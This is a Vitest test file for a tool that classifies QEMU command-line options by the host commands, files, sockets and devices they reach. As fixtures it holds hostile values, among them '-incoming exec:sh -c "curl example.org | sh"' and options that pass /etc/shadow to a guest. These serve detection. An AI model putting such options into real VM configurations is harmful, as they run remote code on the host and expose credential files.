/**
 * The host-access classifier: every kind of option of qemu-options.hx that runs a host command, opens a host file,
 * socket or device, exposes a monitor or changes the QEMU process is recognised, with the value as written; options
 * that touch nothing on the host give nothing.
 */
import { describe, expect, it } from 'vitest';
import { parseQemuArgs } from '../syntax/index.ts';
import { presetDocument } from './presets.ts';
import { computeDesign } from './design.ts';
import { classifyHostAccess, describeHostAccess, hostAccess, unmodelledOptions, type HostAccessKind } from './host-access.ts';

/** [kind, value] pairs of an option */
const kinds = (flag: string, value: string | null = null): Array<[HostAccessKind, string]> => classifyHostAccess(flag, value).map((a) => [a.kind, a.value]);

function doc(args: string[]) {
  const r = parseQemuArgs(args, 'test');
  if (!r.ok) throw new Error(r.error.message);
  return r.doc;
}

describe('host commands', () => {
  it('-incoming exec: runs the command, and says so', () => {
    const [a] = classifyHostAccess('-incoming', 'exec:cat /tmp/vm.state');
    expect(a).toMatchObject({ kind: 'command', value: 'cat /tmp/vm.state' });
    expect(a!.why).toMatch(/runs this host command/);
  });
  it('-incoming channels: the exec transport is a command, sockets are sockets', () => {
    expect(kinds('-incoming', 'main,addr.transport=exec,addr.args.0=sh')[0]![0]).toBe('command');
    expect(kinds('-incoming', '{"channel-type":"main","addr":{"transport":"exec","args":["sh"]}}')[0]![0]).toBe('command');
    expect(kinds('-incoming', 'tcp:0:4444')).toEqual([['socket', 'tcp:0:4444']]);
    expect(kinds('-incoming', 'unix:/run/mig.sock')).toEqual([['socket', 'unix:/run/mig.sock']]);
    expect(kinds('-incoming', 'file:/tmp/state')).toEqual([['file', '/tmp/state']]);
    expect(kinds('-incoming', 'fd:5')).toEqual([['file', 'fd:5']]);
    expect(kinds('-incoming', 'defer')).toEqual([['process', 'defer']]);
  });
  it('tap network scripts, QEMU’s defaults included, and the bridge helper', () => {
    expect(kinds('-netdev', 'tap,id=n0')).toEqual([
      ['device', '/dev/net/tun'],
      ['command', '/etc/qemu-ifup'],
      ['command', '/etc/qemu-ifdown'],
    ]);
    expect(kinds('-netdev', 'tap,id=n0,script=/tmp/up.sh,downscript=no')).toEqual([
      ['device', '/dev/net/tun'],
      ['command', '/tmp/up.sh'],
    ]);
    expect(kinds('-netdev', 'tap,id=n0,fd=3')).toEqual([['file', 'fd 3']]);
    expect(kinds('-netdev', 'tap,id=n0,script=no,downscript=no,vhost=on')).toEqual([
      ['device', '/dev/net/tun'],
      ['device', '/dev/vhost-net'],
    ]);
    expect(kinds('-nic', 'bridge,br=br1')).toEqual([['command', 'qemu-bridge-helper']]);
    expect(kinds('-netdev', 'passt,id=p')).toEqual([['command', 'passt']]);
  });
  it('user networking: guestfwd commands, forwarded host ports, shared directories', () => {
    expect(kinds('-netdev', 'user,id=u,guestfwd=tcp:10.0.2.100:1234-cmd:nc example.org 80')).toEqual([['command', 'nc example.org 80']]);
    expect(kinds('-nic', 'user,hostfwd=tcp::2222-:22,hostfwd=tcp::8080-:80')).toEqual([
      ['socket', 'tcp::2222-:22'],
      ['socket', 'tcp::8080-:80'],
    ]);
    expect(kinds('-netdev', 'user,id=u,smb=/srv/share')).toEqual([
      ['file', '/srv/share'],
      ['command', 'smbd'],
    ]);
    expect(kinds('-netdev', 'user,id=u,tftp=/srv/tftp')).toEqual([['file', '/srv/tftp']]);
    expect(kinds('-netdev', 'user,id=u')).toEqual([]);
    expect(kinds('-net', 'nic,model=e1000')).toEqual([]);
  });
  it('plugins load host code; -spice-app starts a host program', () => {
    expect(kinds('-plugin', './libinsn.so,inline=on')).toEqual([['command', './libinsn.so']]);
    expect(kinds('-plugin', 'file=/usr/lib/qemu/plugin.so')).toEqual([['command', '/usr/lib/qemu/plugin.so']]);
    expect(kinds('-display', 'spice-app')).toEqual([['command', 'spice client']]);
  });
});

describe('character devices, monitors and debuggers', () => {
  it('-chardev backends', () => {
    expect(kinds('-chardev', 'socket,id=c0,path=/tmp/c0.sock,server=on,wait=off')).toEqual([['socket', '/tmp/c0.sock']]);
    expect(kinds('-chardev', 'socket,id=c1,host=0.0.0.0,port=4444,server=on')).toEqual([['socket', '0.0.0.0:4444']]);
    expect(classifyHostAccess('-chardev', 'socket,id=c1,port=4444,server=on')[0]!.why).toMatch(/^listens on/);
    expect(kinds('-chardev', 'file,id=f,path=/tmp/out.log,logfile=/tmp/all.log')).toEqual([
      ['file', '/tmp/out.log'],
      ['file', '/tmp/all.log'],
    ]);
    expect(kinds('-chardev', 'pipe,id=p,path=/tmp/guest')).toEqual([['file', '/tmp/guest']]);
    expect(kinds('-chardev', 'serial,id=s,path=/dev/ttyUSB0')).toEqual([['device', '/dev/ttyUSB0']]);
    expect(kinds('-chardev', 'udp,id=u,host=10.0.0.1,port=9999')).toEqual([['socket', '10.0.0.1:9999']]);
    expect(kinds('-chardev', 'pty,id=t')).toEqual([['device', 'pty']]);
    expect(kinds('-chardev', 'stdio,id=s,signal=off')).toEqual([]);
    expect(kinds('-chardev', 'ringbuf,id=r')).toEqual([]);
  });
  it('-serial and -parallel: files, pipes, sockets and host devices; stdio and vc touch nothing', () => {
    expect(kinds('-serial', 'file:/tmp/serial.log')).toEqual([['file', '/tmp/serial.log']]);
    expect(kinds('-serial', 'pipe:/tmp/ser')).toEqual([['file', '/tmp/ser']]);
    expect(kinds('-serial', 'unix:/tmp/ser.sock,server=on')).toEqual([['socket', 'unix:/tmp/ser.sock,server=on']]);
    expect(kinds('-serial', 'tcp::4555,server=on,wait=off')).toEqual([['socket', 'tcp::4555,server=on,wait=off']]);
    expect(kinds('-serial', 'udp::4555@:4556')).toEqual([['socket', 'udp::4555@:4556']]);
    expect(kinds('-serial', '/dev/ttyS0')).toEqual([['device', '/dev/ttyS0']]);
    expect(kinds('-parallel', '/dev/parport0')).toEqual([['device', '/dev/parport0']]);
    expect(kinds('-serial', 'stdio')).toEqual([]);
    expect(kinds('-serial', 'mon:stdio')).toEqual([]);
    expect(kinds('-serial', 'none')).toEqual([]);
    expect(kinds('-serial', 'chardev:c0')).toEqual([]);
    // the monitor multiplexed onto a socket
    expect(kinds('-serial', 'mon:telnet::4444,server=on,wait=off')).toEqual([
      ['socket', 'telnet::4444,server=on,wait=off'],
      ['monitor', 'mon:telnet::4444,server=on,wait=off'],
    ]);
  });
  it('-monitor and -qmp on something reachable are monitors; on stdio or none they are not', () => {
    expect(kinds('-qmp', 'tcp:localhost:4444,server=on,wait=off')).toEqual([
      ['socket', 'tcp:localhost:4444,server=on,wait=off'],
      ['monitor', 'tcp:localhost:4444,server=on,wait=off'],
    ]);
    expect(kinds('-monitor', 'unix:/tmp/mon.sock,server,nowait').map((k) => k[0])).toEqual(['socket', 'monitor']);
    expect(kinds('-monitor', 'chardev:m0')).toEqual([['monitor', 'chardev:m0']]);
    expect(kinds('-mon', 'chardev=m0,mode=control')).toEqual([['monitor', 'm0']]);
    expect(kinds('-monitor', 'stdio')).toEqual([]);
    expect(kinds('-monitor', 'none')).toEqual([]);
  });
  it('the gdb stub', () => {
    expect(kinds('-s')).toEqual([['socket', 'tcp::1234']]);
    expect(kinds('-gdb', 'tcp::3117')).toEqual([
      ['socket', 'tcp::3117'],
      ['monitor', 'tcp::3117'],
    ]);
  });
});

describe('host files and devices', () => {
  it('disk images: paths, host devices, network protocols, fat directories', () => {
    expect(kinds('-drive', 'file=/var/lib/disk.qcow2,if=virtio')).toEqual([['file', '/var/lib/disk.qcow2']]);
    expect(kinds('-drive', 'if=pflash,format=raw,readonly=on,file=/usr/share/OVMF/OVMF_CODE_4M.fd')).toEqual([['file', '/usr/share/OVMF/OVMF_CODE_4M.fd']]);
    expect(classifyHostAccess('-drive', 'if=pflash,file=/x.fd')[0]!.why).toMatch(/firmware flash image/);
    expect(kinds('-drive', 'file=/dev/sda,format=raw')).toEqual([['device', '/dev/sda']]);
    expect(kinds('-drive', 'file=nbd:192.0.2.1:10809')).toEqual([['socket', 'nbd:192.0.2.1:10809']]);
    expect(kinds('-drive', 'file=fat:rw:/home/me/share')).toEqual([['file', '/home/me/share']]);
    expect(kinds('-drive', 'file.driver=nbd,file.host=example.org,file.port=10809')).toEqual([['socket', 'example.org:10809']]);
    expect(kinds('-drive', 'file=/a.qcow2,backing.file.filename=/b.qcow2')).toEqual([
      ['file', '/a.qcow2'],
      ['file', '/b.qcow2'],
    ]);
    expect(kinds('-drive', 'if=none,id=empty')).toEqual([]);
    expect(kinds('-hda', '/img/disk.raw')).toEqual([['file', '/img/disk.raw']]);
    expect(kinds('-cdrom', '/dev/cdrom')).toEqual([['device', '/dev/cdrom']]);
    expect(kinds('-pflash', '/x/vars.fd')).toEqual([['file', '/x/vars.fd']]);
  });
  it('-blockdev: file names and servers, in keyval and in JSON; a bare file= names another node', () => {
    expect(kinds('-blockdev', 'driver=file,node-name=f0,filename=/img/a.raw')).toEqual([['file', '/img/a.raw']]);
    expect(kinds('-blockdev', 'driver=qcow2,node-name=q0,file=f0')).toEqual([]);
    expect(kinds('-blockdev', 'driver=qcow2,node-name=q0,file.driver=file,file.filename=/img/b.qcow2')).toEqual([['file', '/img/b.qcow2']]);
    expect(kinds('-blockdev', 'driver=host_device,node-name=d,filename=/dev/nvme0n1')).toEqual([['device', '/dev/nvme0n1']]);
    expect(kinds('-blockdev', '{"driver":"nbd","node-name":"n","server":{"type":"inet","host":"h.example","port":"10809"},"export":"x"}')).toEqual([
      ['socket', 'h.example:10809'],
    ]);
    expect(kinds('-blockdev', 'driver=nbd,node-name=n,server.type=unix,server.path=/run/nbd.sock')).toEqual([['socket', '/run/nbd.sock']]);
    expect(kinds('-blockdev', 'driver=http,node-name=h,url=https://example.org/disk.img')).toEqual([['socket', 'https://example.org/disk.img']]);
  });
  it('kernel, initrd, firmware, option ROMs, fw_cfg, ACPI and SMBIOS tables', () => {
    expect(kinds('-kernel', '/boot/vmlinuz')).toEqual([['file', '/boot/vmlinuz']]);
    expect(kinds('-initrd', '/boot/initrd.img')).toEqual([['file', '/boot/initrd.img']]);
    expect(kinds('-bios', '/usr/share/seabios/bios.bin')).toEqual([['file', '/usr/share/seabios/bios.bin']]);
    expect(kinds('-dtb', '/x.dtb')).toEqual([['file', '/x.dtb']]);
    expect(kinds('-option-rom', '/x.rom')).toEqual([['file', '/x.rom']]);
    expect(kinds('-L', '/opt/fw')).toEqual([['file', '/opt/fw']]);
    expect(kinds('-fw_cfg', 'name=opt/secret,file=/etc/shadow')).toEqual([['file', '/etc/shadow']]);
    expect(kinds('-fw_cfg', 'name=opt/x,string=hello')).toEqual([]);
    expect(kinds('-acpitable', 'sig=SSDT,file=/a.aml:/b.aml')).toEqual([
      ['file', '/a.aml'],
      ['file', '/b.aml'],
    ]);
    expect(kinds('-smbios', 'type=11,value=x,path=/etc/hostname')).toEqual([['file', '/etc/hostname']]);
    expect(kinds('-smbios', 'file=/x.bin')).toEqual([['file', '/x.bin']]);
    expect(kinds('-boot', 'menu=on,splash=/root/boot.bmp')).toEqual([['file', '/root/boot.bmp']]);
    expect(kinds('-boot', 'order=c')).toEqual([]);
  });
  it('memory from host files: memory-backend-file mem-path= and -mem-path', () => {
    expect(kinds('-object', 'memory-backend-file,id=m0,size=1G,mem-path=/tmp/nvdimm0,share=on')).toEqual([['file', '/tmp/nvdimm0']]);
    expect(classifyHostAccess('-object', 'memory-backend-file,id=m0,size=1G,mem-path=/tmp/x,share=on')[0]!.why).toMatch(/share=on/);
    expect(kinds('-object', 'memory-backend-file,id=m0,size=1G,mem-path=/dev/dax0.0')).toEqual([['device', '/dev/dax0.0']]);
    expect(kinds('-object', 'memory-backend-ram,id=m0,size=1G')).toEqual([]);
    expect(kinds('-object', 'memory-backend-memfd,id=m0,size=1G,hugetlb=on')).toEqual([]);
    expect(kinds('-object', 'memory-backend-shm,id=m0,size=1G').map((k) => k[0])).toEqual(['file']);
    expect(kinds('-mem-path', '/dev/hugepages')).toEqual([['device', '/dev/hugepages']]);
  });
  it('other objects: secrets, TLS credentials, entropy, packet dumps, SEV, IGVM', () => {
    expect(kinds('-object', 'secret,id=s0,file=/root/pw,format=raw')).toEqual([['file', '/root/pw']]);
    expect(kinds('-object', 'secret,id=s0,data=letmein')).toEqual([]);
    expect(kinds('-object', 'tls-creds-x509,id=t,endpoint=server,dir=/etc/pki/qemu')).toEqual([['file', '/etc/pki/qemu']]);
    expect(kinds('-object', 'rng-random,id=r,filename=/dev/hwrng')).toEqual([['device', '/dev/hwrng']]);
    expect(kinds('-object', 'filter-dump,id=d,netdev=n0,file=/tmp/dump.pcap')).toEqual([['file', '/tmp/dump.pcap']]);
    expect(kinds('-object', 'sev-guest,id=sev0,cbitpos=47,reduced-phys-bits=1,dh-cert-file=/x.b64')).toEqual([['file', '/x.b64']]);
    expect(kinds('-object', 'igvm-cfg,id=i,file=/fw.igvm')).toEqual([['file', '/fw.igvm']]);
    expect(kinds('-object', 'authz-listfile,id=a,filename=/etc/qemu/acl.json')).toEqual([['file', '/etc/qemu/acl.json']]);
    expect(kinds('-object', 'iothread,id=io0')).toEqual([]);
  });
  it('devices: passthrough, option ROMs, shared directories, loaders', () => {
    expect(kinds('-device', 'vfio-pci,host=0000:01:00.0')).toEqual([['device', '0000:01:00.0']]);
    expect(kinds('-device', 'usb-host,hostbus=1,hostaddr=3')).toEqual([['device', 'hostbus=1,hostaddr=3']]);
    expect(kinds('-device', 'e1000,netdev=n0,romfile=/tmp/evil.rom')).toEqual([['file', '/tmp/evil.rom']]);
    expect(kinds('-device', 'e1000,netdev=n0,romfile=')).toEqual([]);
    expect(kinds('-device', 'usb-mtp,rootdir=/home/me')).toEqual([['file', '/home/me']]);
    expect(kinds('-device', 'loader,file=/x.bin,addr=0x1000')).toEqual([['file', '/x.bin']]);
    expect(kinds('-device', 'vhost-vsock-pci,guest-cid=3')).toEqual([['device', '/dev/vhost-vsock']]);
    expect(kinds('-device', 'virtio-blk-pci,drive=hd0')).toEqual([]);
    expect(kinds('-device', 'sp-mem,id=s,memdev=m,node=1')).toEqual([]);
  });
  it('shared directories, TPM, sound, displays', () => {
    expect(kinds('-virtfs', 'local,path=/home,mount_tag=h,security_model=none')).toEqual([['file', '/home']]);
    expect(classifyHostAccess('-fsdev', 'local,id=f,path=/srv,security_model=none,readonly=on')[0]!.why).toMatch(/read-only/);
    expect(kinds('-tpmdev', 'passthrough,id=t0')).toEqual([['device', '/dev/tpm0']]);
    expect(kinds('-tpmdev', 'emulator,id=t0,chardev=c')).toEqual([]);
    expect(kinds('-audiodev', 'wav,id=a,path=/tmp/out.wav')).toEqual([['file', '/tmp/out.wav']]);
    expect(kinds('-audiodev', 'pa,id=a,server=unix:/run/pulse')).toEqual([
      ['device', 'pa'],
      ['socket', 'unix:/run/pulse'],
    ]);
    expect(kinds('-audiodev', 'none,id=a')).toEqual([]);
    expect(kinds('-vnc', ':1')).toEqual([['socket', ':1']]);
    expect(kinds('-vnc', 'none')).toEqual([]);
    expect(kinds('-display', 'vnc=:0')).toEqual([['socket', ':0']]);
    expect(kinds('-display', 'egl-headless,rendernode=/dev/dri/renderD128')).toEqual([['device', '/dev/dri/renderD128']]);
    expect(kinds('-display', 'none')).toEqual([]);
    expect(kinds('-spice', 'port=5930,disable-ticketing=on')).toEqual([['socket', '0.0.0.0:5930']]);
  });
  it('logs, traces, pid files, configuration files, descriptors, snapshots, record/replay', () => {
    expect(kinds('-pidfile', '/run/q.pid')).toEqual([['file', '/run/q.pid']]);
    expect(kinds('-D', '/tmp/qemu.log')).toEqual([['file', '/tmp/qemu.log']]);
    expect(kinds('-trace', 'events=/tmp/ev,file=/tmp/trace.out')).toEqual([
      ['file', '/tmp/trace.out'],
      ['file', '/tmp/ev'],
    ]);
    expect(kinds('-trace', 'memory_region_ops_*')).toEqual([]);
    expect(kinds('-readconfig', '/etc/qemu/vm.cfg')).toEqual([['file', '/etc/qemu/vm.cfg']]);
    expect(kinds('-add-fd', 'fd=3,set=2,opaque=rdwr:/x')).toEqual([['file', 'fd 3 (rdwr:/x)']]);
    expect(kinds('-drive', 'file=/dev/fdset/2,index=0')).toEqual([['file', '/dev/fdset/2']]);
    expect(kinds('-loadvm', 'snap1')).toEqual([['file', 'snap1']]);
    expect(kinds('-icount', 'shift=auto,rr=record,rrfile=/tmp/replay.bin')).toEqual([['file', '/tmp/replay.bin']]);
    expect(kinds('-dump-vmstate', '/tmp/vmstate.json')).toEqual([['file', '/tmp/vmstate.json']]);
  });
  it('accelerator device, machine properties, -set and -global that name files', () => {
    expect(kinds('-accel', 'kvm,device=/dev/kvm2')).toEqual([['device', '/dev/kvm2']]);
    expect(kinds('-accel', 'kvm')).toEqual([]);
    expect(kinds('-machine', 'q35,kernel=/boot/vmlinuz,dumpdtb=/tmp/x.dtb')).toEqual([
      ['file', '/boot/vmlinuz'],
      ['file', '/tmp/x.dtb'],
    ]);
    expect(kinds('-set', 'drive.hd0.file=/etc/shadow')).toEqual([['file', '/etc/shadow']]);
    expect(kinds('-set', 'netdev.n0.script=/tmp/up.sh')).toEqual([['command', '/tmp/up.sh']]);
    expect(kinds('-global', 'e1000.romfile=/tmp/x.rom')).toEqual([['file', '/tmp/x.rom']]);
    expect(kinds('-global', 'driver=e1000,property=romfile,value=/tmp/y.rom')).toEqual([['file', '/tmp/y.rom']]);
    expect(kinds('-global', 'ICH9-LPC.disable_s3=1')).toEqual([]);
  });
});

describe('the QEMU process', () => {
  it('-daemonize, -run-with, -chroot, -runas', () => {
    expect(kinds('-daemonize')).toEqual([['process', '-daemonize']]);
    expect(kinds('-run-with', 'chroot=/var/empty,user=nobody')).toEqual([
      ['process', 'chroot=/var/empty'],
      ['process', 'user=nobody'],
    ]);
    expect(kinds('-run-with', 'exit-with-parent=on')).toEqual([]);
    expect(kinds('-chroot', '/var/empty')).toEqual([['process', '/var/empty']]);
    expect(kinds('-runas', 'nobody')).toEqual([['process', 'nobody']]);
  });
  it('long option spellings (--flag) are the same options', () => {
    expect(kinds('--incoming', 'exec:true')).toEqual([['command', 'true']]);
    expect(kinds('--daemonize')).toEqual([['process', '-daemonize']]);
  });
});

describe('options that touch nothing on the host', () => {
  it.each([
    ['-nographic', null],
    ['-append', 'console=ttyS0 root=/dev/vda'],
    ['-name', 'guest=vm,debug-threads=on'],
    ['-enable-kvm', null],
    ['-smp', '4'],
    ['-m', '4G'],
    ['-cpu', 'host'],
    ['-rtc', 'base=utc'],
    ['-no-reboot', null],
    ['-nodefaults', null],
    ['-vga', 'none'],
    ['-k', 'fr'],
    ['-sandbox', 'on'],
    ['-uuid', '7f9b7e6e-4c4e-4b8b-9d1c-1d1f1a1b1c1d'],
  ])('%s %s', (flag, value) => {
    expect(classifyHostAccess(flag, value)).toEqual([]);
  });
});

describe('a document', () => {
  const d = doc([
    '-machine', 'q35',
    '-m', '2G,slots=2,maxmem=4G',
    '-object', 'memory-backend-file,id=nv0,size=1G,mem-path=/tmp/nvdimm0,share=on',
    '-nographic',
    '-incoming', 'exec:sh -c "curl example.org | sh"',
    '-serial', 'mon:stdio',
    '-drive', 'if=pflash,format=raw,readonly=on,file=/usr/share/OVMF/OVMF_CODE_4M.fd',
  ]);

  it('for each option index, what it touches; modelled options that touch the host are included', () => {
    const h = hostAccess(d);
    expect(h.map((o) => [o.index, o.flag, o.modelled, o.access.map((a) => a.kind)])).toEqual([
      [2, '-object', true, ['file']],
      [4, '-incoming', false, ['command']],
      [6, '-drive', false, ['file']],
    ]);
    expect(h[1]!.text).toBe('exec:sh -c "curl example.org | sh"');
    expect(h[1]!.access[0]!.value).toBe('sh -c "curl example.org | sh"');
  });

  it('the unmodelled options, every one, with the modelled ones that touch the host', () => {
    expect(unmodelledOptions(d).map((o) => o.flag)).toEqual(['-object', '-nographic', '-incoming', '-serial', '-drive']);
    expect(unmodelledOptions(d).filter((o) => !o.modelled && o.access.length === 0).map((o) => o.flag)).toEqual(['-nographic', '-serial']);
  });

  it('a line per option for the notes, control characters shown as escapes', () => {
    const line = describeHostAccess(hostAccess(d)[1]!);
    expect(line).toBe('-incoming exec:sh -c "curl example.org | sh" — runs this host command and takes the guest state QEMU starts from (an incoming migration) from its output: sh -c "curl example.org | sh"');
    const odd = hostAccess(doc(['-m', '1G', '-pidfile', '/tmp/a\u0085b']))[0]!;
    expect(describeHostAccess(odd)).toContain('/tmp/a\\u0085b');
  });

  it('the example machine reads its firmware from a host file, and nothing else', () => {
    const h = hostAccess(presetDocument('accelerator')!);
    expect(h.map((o) => o.access.map((a) => [a.kind, a.value]))).toEqual([[['file', '/usr/share/OVMF/OVMF_CODE_4M.fd']]]);
  });
});

describe('designer diagnostics', () => {
  it('warn about each option that reaches the host, at its option, and list every unmodelled option', () => {
    const d = doc(['-machine', 'q35', '-m', '1G', '-incoming', 'exec:cat /tmp/s', '-nographic', '-serial', 'mon:stdio']);
    const r = computeDesign(d);
    expect(r.error).toBeNull();
    const host = r.diagnostics.filter((x) => x.kind === 'designer/unmodelled' && x.severity === 'warning');
    expect(host).toHaveLength(1);
    expect(host[0]!.option).toEqual({ index: 2, flag: '-incoming', text: 'exec:cat /tmp/s' });
    expect(host[0]!.message).toMatch(/^Reaches the host when QEMU runs: runs this host command .* \(cat \/tmp\/s\)/);
    const list = r.diagnostics.find((x) => x.kind === 'designer/unmodelled' && x.severity === 'info');
    expect(list?.message).toBe('3 options the designer does not model are kept as written and exported in place: -incoming exec:cat /tmp/s, -nographic, -serial mon:stdio.');
  });
  it('say nothing for a design of modelled options that touch nothing', () => {
    const r = computeDesign(doc(['-machine', 'q35', '-m', '1G']));
    expect(r.diagnostics.filter((x) => x.kind === 'designer/unmodelled')).toEqual([]);
  });
});
